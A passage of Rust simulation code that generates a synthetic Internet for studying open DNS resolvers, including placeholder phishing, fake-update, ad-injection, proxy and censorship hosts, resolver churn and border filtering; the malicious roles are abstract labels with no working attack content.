                subseed(cfg.seed, seed_tag + i as u64),
            )));
            net.bind_ip(ip, host);
            out.push(ip);
        }
        out
    };

    // Error hosts.
    infra.error_ips = spawn_group(
        &mut net,
        &mut alloc,
        8,
        Box::new(|i| WebRole::ErrorHost {
            status: [404u16, 404, 500, 502, 403, 503, 404, 400][i % 8],
        }),
        100,
    );
    web_hosts += infra.error_ips.len();

    // Parking landers (two providers).
    infra.parking_ips = spawn_group(
        &mut net,
        &mut alloc,
        8,
        Box::new(|i| WebRole::Parking {
            provider: if i % 2 == 0 {
                "parkco".into()
            } else {
                "domainlot".into()
            },
        }),
        120,
    );
    web_hosts += infra.parking_ips.len();

    // Search pages.
    infra.search_ips = spawn_group(
        &mut net,
        &mut alloc,
        4,
        Box::new(|i| WebRole::Search {
            engine: if i % 2 == 0 {
                "Finder".into()
            } else {
                "Lookup".into()
            },
            mimicry: false,
        }),
        140,
    );
    web_hosts += infra.search_ips.len();

    // Captive portals.
    infra.portal_ips = spawn_group(
        &mut net,
        &mut alloc,
        5,
        Box::new(|i| WebRole::CaptivePortal {
            operator: [
                "MetroWifi",
                "HotelNet",
                "CampusLan",
                "AirportFree",
                "CafeSpot",
            ][i % 5]
                .into(),
        }),
        160,
    );
    web_hosts += infra.portal_ips.len();

    // Generic block pages (protection providers).
    infra.blockpage_ips = spawn_group(
        &mut net,
        &mut alloc,
        4,
        Box::new(|i| WebRole::BlockPage {
            operator: if i % 2 == 0 {
                "SafeGuardDNS".into()
            } else {
                "FamilyShield".into()
            },
            reason: if i % 2 == 0 {
                "the site distributes malware".into()
            } else {
                "parental control policy".into()
            },
        }),
        180,
    );
    web_hosts += infra.blockpage_ips.len();

    // Misc ordinary sites (personal/shopping — the unlabeled remainder).
    infra.misc_site_ips = spawn_group(
        &mut net,
        &mut alloc,
        6,
        Box::new(|i| WebRole::LegitSite {
            domain: format!("miscsite{i}.example"),
            category: DomainCategory::Misc,
        }),
        200,
    );
    web_hosts += infra.misc_site_ips.len();

    // Transparent proxies: 10 TLS + 10 HTTP-only (Sec. 4.3).
    // They need the universe; give them a placeholder and patch after
    // the universe is frozen — instead, build them after resolvers.
    // (handled below)

    // Ad manipulation hosts: 2 banner + 2 script + 7 blank + 2 fake-search.
    infra.ad_banner_ips = spawn_group(
        &mut net,
        &mut alloc,
        2,
        Box::new(|_| WebRole::AdManipulator {
            mode: AdMode::InjectBanner,
        }),
        220,
    );
    infra.ad_script_ips = spawn_group(
        &mut net,
        &mut alloc,
        2,
        Box::new(|_| WebRole::AdManipulator {
            mode: AdMode::InjectScript,
        }),
        230,
    );
    infra.ad_blank_ips = spawn_group(
        &mut net,
        &mut alloc,
        7,
        Box::new(|_| WebRole::AdManipulator {
            mode: AdMode::Blank,
        }),
        240,
    );
    infra.ad_fake_search_ips = spawn_group(
        &mut net,
        &mut alloc,
        2,
        Box::new(|_| WebRole::AdManipulator {
            mode: AdMode::FakeSearch,
        }),
        250,
    );
    web_hosts += 13;

    // Phishing hosts: 16 PayPal (3 with self-signed TLS), 1 BR + 1 RU
    // bank clones, and misc clones of other banking targets (39 total).
    let mut phish_roles: Vec<WebRole> = Vec::new();
    for i in 0..16 {
        phish_roles.push(WebRole::PhishKit {
            target: "paypal.example".into(),
            tls_self_signed: i < 3,
            bank_clone: false,
        });
    }
    phish_roles.push(WebRole::PhishKit {
        target: "bancaditalia.example".into(),
        tls_self_signed: false,
        bank_clone: true,
    });
    phish_roles.push(WebRole::PhishKit {
        target: "bancaditalia.example".into(),
        tls_self_signed: false,
        bank_clone: true,
    });
    let misc_targets = [
        "chasebank.example",
        "hsbcbank.example",
        "alipay.example",
        "ebaypay.example",
        "wellsbank.example",
    ];
    for i in 0..21 {
        phish_roles.push(WebRole::PhishKit {
            target: misc_targets[i % misc_targets.len()].into(),
            tls_self_signed: false,
            bank_clone: i % 2 == 0,
        });
    }
    let phish_count = phish_roles.len();
    infra.phish_ips = spawn_group(
        &mut net,
        &mut alloc,
        phish_count,
        Box::new(move |i| phish_roles[i].clone()),
        260,
    );
    web_hosts += phish_count;

    // Mail interception hosts (~1,135 at paper scale) + banner clones.
    let intercept_count = cfg.scaled_min(1_135, 4) as usize;
    infra.mail_intercept_ips = spawn_group(
        &mut net,
        &mut alloc,
        intercept_count,
        Box::new(|i| WebRole::MailServer {
            banners: MailBanners {
                smtp: format!("220 mail-relay-{i} ESMTP"),
                imap: format!("* OK relay-{i} IMAP4rev1 ready"),
                pop3: format!("+OK relay-{i} POP3"),
            },
        }),
        300,
    );
    web_hosts += intercept_count;
    infra.mail_clone_ips = spawn_group(
        &mut net,
        &mut alloc,
        2,
        Box::new(|i| WebRole::MailServer {
            banners: MailBanners::provider(if i == 0 {
                "gmail.example"
            } else {
                "yandex.example"
            }),
        }),
        320,
    );
    web_hosts += 2;

    // Fake-update (malware dropper) hosts: 30.
    infra.malware_update_ips = spawn_group(
        &mut net,
        &mut alloc,
        30,
        Box::new(|i| WebRole::FakeUpdate {
            product: if i % 2 == 0 {
                "Flash".into()
            } else {
                "Java".into()
            },
        }),
        340,
    );
    web_hosts += 30;

    // ---- Censorship landing pages (33 landing-page countries) ----
    for plan in CENSOR_PLANS {
        if plan.landing_ips == 0 {
            continue;
        }
        let cc = Country::new(plan.code);
        let gov_asn = next_asn;
        next_asn += 1;
        ases.push(AsInfo {
            asn: gov_asn,
            name: format!("{}-GOVNET", plan.code),
            country: cc,
            broadband: false,
        });
        let block = alloc.block(plan.landing_ips.max(1));
        geo_builder
            .insert(
                block.0,
                block.1,
                geodb::NetBlock {
                    country: cc,
                    asn: gov_asn,
                    rdns: None,
                },
            )
            .expect("gov block");
        let country_name = country_display(plan.code);
        let mut ips = Vec::new();
        for ip in ips_of_block(block) {
            let host = net.add_host(Box::new(WebHost::new(
                WebRole::CensorLanding {
                    country: country_name.to_string(),
                    authority: "national telecommunications authority".into(),
                },
                subseed(cfg.seed, 400 + ip_hash(ip)),
            )));
            net.bind_ip(ip, host);
            web_hosts += 1;
            ips.push(ip);
        }
        infra.landing_ips.insert(plan.code.to_string(), ips);
    }
    // Estonia uses Russia's landing pages (Sec. 6 confirmation).
    if let Some(ru) = infra.landing_ips.get("RU").cloned() {
        infra.landing_ips.insert("EE".to_string(), ru);
    }

    // DNSSEC: sparse deployment as of 2015 (<0.6% of .net, Sec. 5).
    // The measurement zone and a couple of high-value targets sign.
    universe.sign_domain(&catalog.ground_truth);
    universe.sign_domain("paypal.example");
    universe.sign_domain("oauth.google.example");

    // Freeze the universe: proxies and resolvers share it read-only.
    let universe = Arc::new(universe);

    // Transparent proxies (need the frozen universe).
    for i in 0..10usize {
        let ip = alloc.one();
        let host = net.add_host(Box::new(WebHost::new(
            WebRole::TransparentProxy {
                universe: universe.clone(),
                tls: true,
            },
            subseed(cfg.seed, 500 + i as u64),
        )));
        net.bind_ip(ip, host);
        infra.proxy_tls_ips.push(ip);
    }
    for i in 0..10usize {
        let ip = alloc.one();
        let host = net.add_host(Box::new(WebHost::new(
            WebRole::TransparentProxy {
                universe: universe.clone(),
                tls: false,
            },
            subseed(cfg.seed, 520 + i as u64),
        )));
        net.bind_ip(ip, host);
        infra.proxy_http_ips.push(ip);
    }
    web_hosts += 20;

    // =================================================================
    // Resolver population.
    // =================================================================

    let censored_social: Arc<BTreeSet<String>> = Arc::new(
        catalog
            .social_media()
            .iter()
            .map(|s| s.to_string())
            .collect(),
    );

    // Precompute censor policies.
    let mut censor_policies: BTreeMap<&str, Arc<CensorPolicy>> = BTreeMap::new();
    for plan in CENSOR_PLANS {
        if plan.code == "CN" {
            continue; // handled by the GFW + GfwPoisoned behaviour
        }
        let landing = infra
            .landing_ips
            .get(plan.code)
            .cloned()
            .unwrap_or_default();
        if landing.is_empty() {
            continue;
        }
        let mut categories = Vec::new();
        if plan.adult {
            categories.push(DomainCategory::Adult);
        }
        if plan.gambling {
            categories.push(DomainCategory::Gambling);
        }
        if plan.dating {
            categories.push(DomainCategory::Dating);
        }
        if plan.filesharing {
            categories.push(DomainCategory::Filesharing);
        }
        let mut domains: Vec<String> = plan.extra_domains.iter().map(|s| s.to_string()).collect();
        if plan.social {
            domains.extend(catalog.social_media().iter().map(|s| s.to_string()));
        }
        censor_policies.insert(
            plan.code,
            Arc::new(CensorPolicy {
                country: Country::new(plan.code),
                rules: vec![CensorRule {
                    categories,
                    domains,
                    landing_ips: landing,
                }],
                compliance: plan.compliance,
            }),
        );
    }

    // Behaviour target sets shared across resolvers.
    let ad_targets: Arc<BTreeSet<String>> = Arc::new(
        ["adnet-one.example", "adnet-two.example"]
            .iter()
            .map(|s| s.to_string())
            .collect(),
    );
    let fake_search_targets: Arc<BTreeSet<String>> =
        Arc::new(["google.example".to_string()].into_iter().collect());
    let parking_stale_targets: Arc<BTreeSet<String>> = Arc::new(
        ["cn-dropzone.example", "cn-cmdhost.example"]
            .iter()
            .map(|s| s.to_string())
            .collect(),
    );
    let parking_tor_targets: Arc<BTreeSet<String>> =
        Arc::new(["torproject.example".to_string()].into_iter().collect());
    let malware_search_targets: Arc<BTreeSet<String>> = Arc::new(
        [
            "botcnc1.example",
            "botcnc2.example",
            "exploitkit.example",
            "spamgate.example",
            "dgaseed.example",
            "wormrelay.example",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect(),
    );
    let malware_update_targets: Arc<BTreeSet<String>> = Arc::new(
        [
            "update.adobe.example",
            "update.java.example",
            "update.flashplayer.example",
            "update.avvendor01.example",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect(),
    );
    let paypal_targets: Arc<BTreeSet<String>> =
        Arc::new(["paypal.example".to_string()].into_iter().collect());
    let bank_targets: Arc<BTreeSet<String>> =
        Arc::new(["bancaditalia.example".to_string()].into_iter().collect());

    // Case-study population budgets (scaled).
    let mut case_budget: Vec<(BehaviorKind, u64)> = vec![
        (
            BehaviorKind::SelfIp,
            cfg.scaled_min(CASE_STUDY_PLAN.self_ip_everywhere, 3),
        ),
        (
            BehaviorKind::AdInjectBanner,
            cfg.scaled_min(CASE_STUDY_PLAN.ad_redirect_resolvers / 2, 2),
        ),
        (
            BehaviorKind::AdInjectScript,
            cfg.scaled_min(CASE_STUDY_PLAN.ad_redirect_resolvers / 2, 2),
        ),
        (
            BehaviorKind::AdBlank,
            cfg.scaled_min(CASE_STUDY_PLAN.ad_blank_resolvers, 1),
        ),
        (
            BehaviorKind::AdFakeSearch,
            cfg.scaled_min(CASE_STUDY_PLAN.ad_fake_search_resolvers, 1),
        ),
        (
            BehaviorKind::ProxyTls,
            cfg.scaled_min(CASE_STUDY_PLAN.proxy_tls_resolvers, 2),
        ),
        (
            BehaviorKind::ProxyHttp,
            cfg.scaled_min(CASE_STUDY_PLAN.proxy_http_resolvers, 6),
        ),
        (
            BehaviorKind::PhishPaypal,
            cfg.scaled_min(CASE_STUDY_PLAN.phish_paypal_resolvers, 3),
        ),
        (
            BehaviorKind::PhishBankBr,
            cfg.scaled_min(CASE_STUDY_PLAN.phish_bank_br_resolvers, 2),
        ),
        (
            BehaviorKind::PhishBankRu,
            cfg.scaled_min(CASE_STUDY_PLAN.phish_bank_ru_resolvers, 1),
        ),
        (
            BehaviorKind::PhishMisc,
            cfg.scaled_min(CASE_STUDY_PLAN.phish_misc_resolvers, 2),
        ),
        (
            BehaviorKind::MailClone,
            cfg.scaled_min(CASE_STUDY_PLAN.mail_clone_resolvers, 1),
        ),
        (
            BehaviorKind::MalwareUpdate,
            cfg.scaled_min(CASE_STUDY_PLAN.malware_update_resolvers, 2),
        ),
    ];

    let mut resolvers: Vec<ResolverMeta> = Vec::new();
    let mut pools: Vec<LeasePool> = Vec::new();
    let mut border_filtered: Vec<(u32, u32)> = Vec::new();
    let churn_mix = ChurnClass::mix();

    for (ci, plan) in COUNTRY_PLANS.iter().enumerate() {
        let cc = Country::new(plan.code);
        let region = Rir::for_country(cc);
        // Special sub-AS events (the Argentinean telco, the South Korean
        // ISP) are *part of* the country totals: their hosts are built
        // separately below, so the regular population excludes them and
        // the end target excludes the event AS's surviving remnant.
        let special = match plan.code {
            "AR" => Some((
                cfg.scaled(737_424).max(3) as usize,
                16u32,
                cfg.scaled(17_000) as usize,
            )),
            "KR" => Some((
                cfg.scaled(434_567).max(3) as usize,
                30u32,
                cfg.scaled(22) as usize,
            )),
            _ => None,
        };
        let (special_count, _special_week, special_leftover) = special.unwrap_or((0, 0, 0));
        let start = cfg
            .scaled(plan.start)
            .saturating_sub(special_count as u64)
            .max(4) as usize;
        let end = cfg
            .scaled(plan.end)
            .saturating_sub(special_leftover as u64)
            .max(2) as usize;
        let spawners = end.saturating_sub(start);
        let retirees = start.saturating_sub(end);

        // Scan-level REFUSED / SERVFAIL populations ride along,
        // proportional to country size.
        let refused = ((start as f64) * RESPONSE_CLASS_PLAN.refused_fraction) as usize;
        let servfail = ((start as f64) * RESPONSE_CLASS_PLAN.servfail_max_fraction) as usize;

        let total = start + spawners + refused + servfail;

        let mut country_rng = SmallRng::seed_from_u64(subseed(cfg.seed, 1000 + ci as u64));

        // The country's ISP recursive resolver: the upstream that CPE
        // forwarders relay to. It complies with national censorship.
        let isp_recursive_ip = alloc.one();
        {
            let isp_behavior = if plan.code == "CN" {
                ResolverBehavior::GfwPoisoned {
                    censored: censored_social.clone(),
                    escapes_gfw: false,
                }
            } else if let Some(policy) = censor_policies.get(plan.code) {
                ResolverBehavior::Censor {
                    policy: policy.clone(),
                }
            } else {
                ResolverBehavior::Honest
            };
            let isp_host = net.add_host(Box::new(ResolverHost::new(
                universe.clone(),
                isp_behavior,
                SoftwareProfile::new("BIND", "9.9.5", ChaosPolicy::Genuine),
                DeviceProfile::closed(),
                TldCacheSim::new(CacheProfile::InUse {
                    refresh_gap_s: 2,
                    tld_mask: 0x7fff,
                    phase_s: (ci as u32 * 331) % 3600,
                }),
                region,
                subseed(cfg.seed, 5000 + ci as u64),
            )));
            net.bind_ip(isp_recursive_ip, isp_host);
        }

        // Pools per churn class.
        let mut class_members: BTreeMap<usize, Vec<HostId>> = BTreeMap::new();
        let mut metas_this_country: Vec<usize> = Vec::new();

        for i in 0..total {
            let salt = subseed(cfg.seed, (ci as u64) << 32 | i as u64);
            // Response class.
            let response_class = if i < start + spawners {
                ResponseClass::NoError
            } else if i < start + spawners + refused {
                ResponseClass::Refused
            } else {
                ResponseClass::ServFail
            };
            // Churn class.
            let mut u = country_rng.gen::<f64>();
            let mut churn = ChurnClass::Daily;
            for (class, share, _) in churn_mix {
                if u < share {
                    churn = class;
                    break;
                }
                u -= share;
            }
            // Behaviour.
            let (kind, censor_layer) = match response_class {
                ResponseClass::Refused => (BehaviorKind::RefusedAll, false),
                ResponseClass::ServFail => (BehaviorKind::ServFailAll, false),
                ResponseClass::NoError => {
                    let mut kind = BehaviorKind::Honest;
                    let mut u = country_rng.gen::<f64>();
                    for (k, share) in BASE_BEHAVIOR_MIX {
                        if u < *share {
                            kind = *k;
                            break;
                        }
                        u -= share;
                    }
                    // Case-study override draws from honest candidates.
                    if kind == BehaviorKind::Honest {
                        if let Some(slot) = case_budget.iter_mut().find(|(_, n)| *n > 0) {
                            // Spread case studies thinly: claim with low
                            // probability so they distribute across countries.
                            if country_rng.gen::<f64>() < 0.03 {
                                slot.1 -= 1;
                                kind = slot.0;
                            }
                        }
                    }
                    // Censorship layer.
                    let censors = CENSOR_PLANS
                        .iter()
                        .find(|p| p.code == plan.code)
                        .map(|p| country_rng.gen::<f64>() < p.compliance)
                        .unwrap_or(false);
                    if censors {
                        if plan.code == "CN" {
                            let escape = country_rng.gen::<f64>() < 0.024;
                            if kind == BehaviorKind::Honest {
                                kind = if escape {
                                    BehaviorKind::GfwEscape
                                } else {
                                    BehaviorKind::GfwPoisoned
                                };
                            }
                            (kind, true)
                        } else {
                            if kind == BehaviorKind::Honest {
                                kind = BehaviorKind::Censor;
                            }
                            (kind, true)
                        }
                    } else {
                        (kind, false)
                    }
                }
            };

            // Lifecycle.
            let (spawn_week, retire_week) = match response_class {
                ResponseClass::NoError => {
                    if i >= start {
                        // Spawner.
                        (
                            1 + country_rng.gen_range(0..cfg.weeks.saturating_sub(2).max(1)),
                            None,
                        )
                    } else if (i % start.max(1)) < retirees {
                        // Retiree (deterministic stripe, random week).
                        (
                            0,
                            Some(1 + country_rng.gen_range(0..cfg.weeks.saturating_sub(2).max(1))),
                        )
                    } else {
                        (0, None)
                    }
                }
                ResponseClass::Refused => (0, None),
                ResponseClass::ServFail => {
                    // Fluctuating windows; a third are active from the
                    // start so the first scans see a SERVFAIL floor.
                    let s = if country_rng.gen::<f64>() < 0.35 {
                        0
                    } else {
                        country_rng.gen_range(0..cfg.weeks.max(2))
                    };
                    let len = country_rng.gen_range(8..28);
                    (s, Some((s + len).min(cfg.weeks + 1)))
                }
            };

            // Device profile.
            let tcp_exposed = country_rng.gen::<f64>() < TCP_EXPOSED_FRACTION;
            let (device_plan, device) = if tcp_exposed {
                let mut u = country_rng.gen::<f64>();
                let mut picked = None;
                for (dp, share) in DEVICE_MIX {
                    if u < *share {
                        picked = Some(*dp);
                        break;
                    }
                    u -= share;
                }
                let profile = match picked {
                    Some(dp) => device_profile(dp, salt as u32),
                    None => DeviceProfile {
                        class: DeviceClass::Unknown,
                        os: DeviceOs::Unknown,
                        tcp_exposed: true,
                        serial: salt as u32 & 0xffff,
                    },
                };
                (picked, profile)
            } else {
                (None, DeviceProfile::closed())
            };

            // Software + CHAOS policy.
            let (family, version) = sample_software(&mut country_rng);
            let chaos_u = country_rng.gen::<f64>();
            let chaos = if chaos_u < PAPER_CHAOS_MIX.error {
                ChaosPolicy::Error(if country_rng.gen::<bool>() {
                    ChaosErrorKind::Refused
                } else {
                    ChaosErrorKind::ServFail
                })
            } else if chaos_u < PAPER_CHAOS_MIX.error + PAPER_CHAOS_MIX.empty {
                ChaosPolicy::EmptyAnswer
            } else if chaos_u
                < PAPER_CHAOS_MIX.error + PAPER_CHAOS_MIX.empty + PAPER_CHAOS_MIX.custom
            {
                ChaosPolicy::Custom(
                    CUSTOM_STRINGS[country_rng.gen_range(0..CUSTOM_STRINGS.len())].to_string(),
                )
            } else {
                ChaosPolicy::Genuine
            };
            let chaos_genuine = matches!(chaos, ChaosPolicy::Genuine);
            let software = SoftwareProfile::new(&family, &version, chaos);
            let software_key = software.table_key();

            // Cache / utilization profile.
            let cache = sample_cache_profile(&mut country_rng, salt);

            // Materialize the behaviour.
            let behavior = materialize_behavior(
                kind,
                censor_layer,
                plan.code,
                &infra,
                &censor_policies,
                &censored_social,
                &ad_targets,
                &fake_search_targets,
                &parking_stale_targets,
                &parking_tor_targets,
                &malware_search_targets,
                &malware_update_targets,
                &paypal_targets,
                &bank_targets,
                salt,
            );

            let alive = Arc::new(AtomicBool::new(spawn_week == 0));
            // ~2.5% of resolvers are CPE forwarding proxies with broken
            // NAT: the upstream ISP recursive answers the client
            // directly, from its own address (Sec. 2.2: 630k-750k
            // source-mismatch responders per week).
            let multihomed =
                country_rng.gen::<f64>() < 0.025 && response_class == ResponseClass::NoError;
            let host_id = if multihomed {
                net.add_host(Box::new(
                    ForwarderHost::leaky(isp_recursive_ip).with_alive(alive.clone()),
                ))
            } else {
                let host = ResolverHost::new(
                    universe.clone(),
                    behavior,
                    software,
                    device,
                    TldCacheSim::new(cache),
                    region,
                    salt,
                )
                .with_alive(alive.clone());
                net.add_host(Box::new(host))
            };

            let class_idx = churn_mix.iter().position(|(c, _, _)| *c == churn).unwrap();
            class_members.entry(class_idx).or_default().push(host_id);

            metas_this_country.push(resolvers.len());
            resolvers.push(ResolverMeta {
                host: host_id,
                country: cc,
                asn: 0, // patched below once pools allocate blocks
                behavior: kind,
                response_class,
                churn,
                device: device_plan,
                software_key,
                chaos_genuine,
                spawn_week,
                retire_week,
                initial_ip: Ipv4Addr::UNSPECIFIED,
                alive,
            });
        }

        // Build per-class pools and bind initial addresses.
        let mut meta_cursor: BTreeMap<HostId, usize> = metas_this_country
            .iter()
            .map(|&mi| (resolvers[mi].host, mi))
            .collect();
        for (class_idx, members) in class_members {
            let (class, _, mean_lease) = churn_mix[class_idx];
            let asn = next_asn;
            next_asn += 1;
            let broadband = matches!(class, ChurnClass::Daily | ChurnClass::Weekly);
            ases.push(AsInfo {
                asn,
                name: format!("{}-NET-{}", plan.code, class_idx),
                country: cc,
                broadband,
            });
            // Generous slack: in the real Internet open resolvers are <1%
            // of allocated space, so a vacated address almost never lands
            // on another resolver. 40x slack keeps the address-reuse
            // floor of the Figure 2 curve near the paper's 4% tail while
            // the scannable space stays laptop-sized.
            let pool_size = (members.len() as u32 * 40).max(members.len() as u32 + 8);
            let block = alloc.block(pool_size);
            let dynamic_rdns = {
                let mut r = SmallRng::seed_from_u64(subseed(cfg.seed, 7000 + asn as u64));
                r.gen::<f64>() < class.dynamic_rdns_share()
            };
            geo_builder
                .insert(
                    block.0,
                    block.1,
                    geodb::NetBlock {
                        country: cc,
                        asn,
                        rdns: None,
                    },
                )
                .expect("pool block non-overlapping");
            let pattern = if dynamic_rdns {
                RdnsPattern::DynamicPool {
                    zone: format!("{}.isp{}.example", plan.code.to_lowercase(), asn),
                    token: ["dynamic", "broadband", "dialup"][(asn as usize) % 3].to_string(),
                }
            } else {
                RdnsPattern::static_host(&format!(
                    "{}.isp{}.example",
                    plan.code.to_lowercase(),
                    asn
                ))
            };
            rdns_builder
                .insert(block.0, block.1, pattern)
                .expect("rdns block");

            let pool = LeasePool::new(
                &mut net,
                ChurnConfig {
                    mean_lease_ms: mean_lease,
                    seed: subseed(cfg.seed, 8000 + asn as u64),
                },
                ips_of_block(block),
                members.clone(),
                SimTime::ZERO,
            );
            for member in &members {
                if let Some(&mi) = meta_cursor.get(member) {
                    resolvers[mi].asn = asn;
                    resolvers[mi].initial_ip = pool.address_of(*member).unwrap();
                }
            }
            meta_cursor.retain(|h, _| !members.contains(h));
            pools.push(pool);
        }

        // Special AS filter events: dedicated blocks that get
        // border-filtered mid-study (−97.8% for the AR telco).
        if let Some((count, week, _leftover)) = special {
            let asn = next_asn;
            next_asn += 1;
            ases.push(AsInfo {
                asn,
                name: format!("{}-TELCO-EVENT", plan.code),
                country: cc,
                broadband: true,
            });
            let block = alloc.block((count as u32 * 13 / 10).max(count as u32 + 2));
            geo_builder
                .insert(
                    block.0,
                    block.1,
                    geodb::NetBlock {
                        country: cc,
                        asn,
                        rdns: None,
                    },
                )
                .expect("special block");
            let mut members = Vec::new();
            for j in 0..count {
                let salt = subseed(cfg.seed, (0xAAAA_0000 + (ci as u64)) << 16 | j as u64);
                let alive = Arc::new(AtomicBool::new(true));
                let host = ResolverHost::new(
                    universe.clone(),
                    ResolverBehavior::Honest,
                    SoftwareProfile::new("BIND", "9.8.2", ChaosPolicy::Genuine),
                    DeviceProfile::closed(),
                    TldCacheSim::new(CacheProfile::EmptyAnswer),
                    region,
                    salt,
                )
                .with_alive(alive.clone());
                let host_id = net.add_host(Box::new(host));
                members.push(host_id);
                resolvers.push(ResolverMeta {
                    host: host_id,
                    country: cc,
                    asn,
                    behavior: BehaviorKind::Honest,
                    response_class: ResponseClass::NoError,
                    churn: ChurnClass::Static,
                    device: None,
                    software_key: "BIND 9.8.2".into(),
                    chaos_genuine: true,
                    spawn_week: 0,
                    retire_week: None,
                    initial_ip: Ipv4Addr::UNSPECIFIED,
                    alive,
                });
            }
            let pool = LeasePool::new(
                &mut net,
                ChurnConfig::stable(subseed(cfg.seed, 9000 + asn as u64)),
                ips_of_block(block),
                members.clone(),
                SimTime::ZERO,
            );
            let base = resolvers.len() - members.len();
            for (k, m) in members.iter().enumerate() {
                resolvers[base + k].initial_ip = pool.address_of(*m).unwrap();
            }
            pools.push(pool);
            // The border filter that makes the whole AS vanish.
            net.add_filter(
                block.0,
                block.1,
                FilterDirection::Inbound,
                SimTime::from_weeks(week as u64),
            );
            border_filtered.push((asn, week));
        }
    }

    // 21 networks that blacklisted the primary scanner only (Sec. 2.3,
    // explanation i): small blocks pair-filtered against the scanner /8.
    {
        let mut bl_rng = SmallRng::seed_from_u64(subseed(cfg.seed, 0xB10C));
        let per_net = cfg.scaled_min(77_000 / 21, 2) as usize;
        for n in 0..21usize {
            let cc = Country::new(COUNTRY_PLANS[n % COUNTRY_PLANS.len()].code);
            let region = Rir::for_country(cc);
            let asn = next_asn;
            next_asn += 1;
            ases.push(AsInfo {
                asn,
                name: format!("BLOCKER-{n}"),
                country: cc,
                broadband: true,
            });
            let block = alloc.block((per_net as u32 + 4).max(8));
            geo_builder
                .insert(
                    block.0,
                    block.1,
                    geodb::NetBlock {
                        country: cc,
                        asn,
                        rdns: None,
                    },
                )
                .expect("blocker block");
            let ips = ips_of_block(block);
            #[allow(clippy::needless_range_loop)]
            for j in 0..per_net {
                let alive = Arc::new(AtomicBool::new(true));
                let host = ResolverHost::new(
                    universe.clone(),
                    ResolverBehavior::Honest,
                    SoftwareProfile::new("Dnsmasq", "2.52", ChaosPolicy::Genuine),
                    DeviceProfile::closed(),
                    TldCacheSim::new(CacheProfile::EmptyAnswer),
                    region,
                    subseed(cfg.seed, (0xB10C_0000 + (n as u64)) << 8 | j as u64),
                )
                .with_alive(alive.clone());
                let host_id = net.add_host(Box::new(host));
                net.bind_ip(ips[j], host_id);
                resolvers.push(ResolverMeta {
                    host: host_id,
                    country: cc,
                    asn,
                    behavior: BehaviorKind::Honest,
                    response_class: ResponseClass::NoError,
                    churn: ChurnClass::Static,
                    device: None,
                    software_key: "Dnsmasq 2.52".into(),
                    chaos_genuine: true,
                    spawn_week: 0,
                    retire_week: None,
                    initial_ip: ips[j],
                    alive,
                });
            }
            let activate = 4 + bl_rng.gen_range(0..20u64);
            net.add_pair_filter(
                block.0,
                block.1,
                Ipv4Addr::from(SCANNER_SLASH8.0),
                Ipv4Addr::from(SCANNER_SLASH8.1),
                SimTime::from_weeks(activate),
            );
        }
    }

    let geo = GeoDb::new(geo_builder.build(), ases);
    // GFW ranges = every CN block in the geo DB.
    let cn_ranges: Vec<(Ipv4Addr, Ipv4Addr)> = geo_ranges_for(&geo, Country::new("CN"));
    net.add_injector(Box::new(GreatFirewall::new(
        cn_ranges,
        censored_social.clone(),
    )));

    let rdns = RdnsDb::new(rdns_builder.build(), rdns_overrides);

    let stats = WorldStats {
        resolvers: resolvers.len(),
        web_hosts,
        pools: pools.len(),
        countries: COUNTRY_PLANS.len(),
    };

    let scanner_ip = Ipv4Addr::from(SCANNER_SLASH8.0 + 1);
    let scanner2_ip = Ipv4Addr::from(SCANNER2_SLASH8.0 + 1);
    let allocated = alloc.allocated.clone();

    // Opt-out blacklist (Sec. 2.2: 208 ranges + 50 single addresses).
    // Some network operators ask to be excluded: every 23rd allocated
    // block contributes the first quarter of its space, and a few
    // resolvers opt out individually.
    let mut blacklist_ranges: Vec<(Ipv4Addr, Ipv4Addr)> = Vec::new();
    // Opt-outs are individual operators, not whole countries: a thin
    // slice (at most 16 addresses) of every 23rd allocated block, so no
    // country loses a measurable share of its population (the paper's
    // exclusion list stayed negligible against 26.8M resolvers).
    for (i, &(lo, hi)) in allocated.iter().enumerate() {
        if i % 23 == 7 {
            let lo_v = u32::from(lo);
            let hi_v = u32::from(hi);
            let span = hi_v - lo_v;
            if span >= 16 {
                let slice = (span / 64).clamp(1, 3);
                blacklist_ranges.push((lo, Ipv4Addr::from(lo_v + slice)));
            }
        }
    }
    let blacklist_singles: Vec<Ipv4Addr> = resolvers
        .iter()
        .enumerate()
        .filter(|(i, _)| i % 997 == 13)
        .map(|(_, m)| m.initial_ip)
        .collect();

    let mut world = World::new_raw(
        cfg,
        net,
        universe,
        geo,
        rdns,
        catalog,
        resolvers,
        infra,
        pools,
        allocated,
        scanner_ip,
        scanner2_ip,
        stats,
        blacklist_ranges,
        blacklist_singles,
    );
    world.border_filtered_asns = border_filtered;
    let reg = telemetry::global();
    reg.gauge("worldgen.resolvers")
        .set(world.stats.resolvers as f64);
    reg.gauge("worldgen.web_hosts")
        .set(world.stats.web_hosts as f64);
    reg.gauge("worldgen.pools").set(world.stats.pools as f64);
    telemetry::info(
        "worldgen.build",
        "world built",
        &[
            ("resolvers", world.stats.resolvers.into()),
            ("web_hosts", world.stats.web_hosts.into()),
            ("pools", world.stats.pools.into()),
            ("countries", world.stats.countries.into()),
        ],
        Some(0),
    );
    sp.attr("resolvers", world.stats.resolvers);
    sp.finish(0);
    world
}

/// All geo blocks of one country.
fn geo_ranges_for(geo: &GeoDb, country: Country) -> Vec<(Ipv4Addr, Ipv4Addr)> {
    geo.blocks_iter()
        .filter(|(_, _, b)| b.country == country)
        .map(|(a, b, _)| (a, b))
        .collect()
}

/// Which CDN provider hosts a domain. The social-media domains are
/// pinned to provider 0 (whose edge fleet is fully operational) so the
/// Figure 4 censorship signal is not polluted by the disabled-edge
/// phenomenon, which the paper reports separately (Sec. 4.2).
fn cdn_provider_of(name: &str, providers: usize) -> usize {
    if matches!(
        name,
        "facebook.example" | "twitter.example" | "youtube.example"
    ) {
        return 0;
    }
    (domain_hash(name) as usize) % providers
}

fn domain_hash(name: &str) -> u64 {
    let mut h = 0xcbf29ce484222325u64;
    for b in name.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100000001b3);
    }
    h
}

fn ip_hash(ip: Ipv4Addr) -> u64 {
    u32::from(ip) as u64
}

fn country_display(code: &str) -> &'static str {
    match code {
        "CN" => "China",
        "IR" => "Iran",
        "TR" => "Turkey",
        "ID" => "Indonesia",
        "MY" => "Malaysia",
        "IT" => "Italy",
        "RU" => "Russia",
        "GR" => "Greece",
        "BE" => "Belgium",
        "MN" => "Mongolia",
        "EE" => "Estonia",
        "VN" => "Vietnam",
        "TH" => "Thailand",
        "PK" => "Pakistan",
        "EG" => "Egypt",
        "DZ" => "Algeria",
        "IN" => "India",
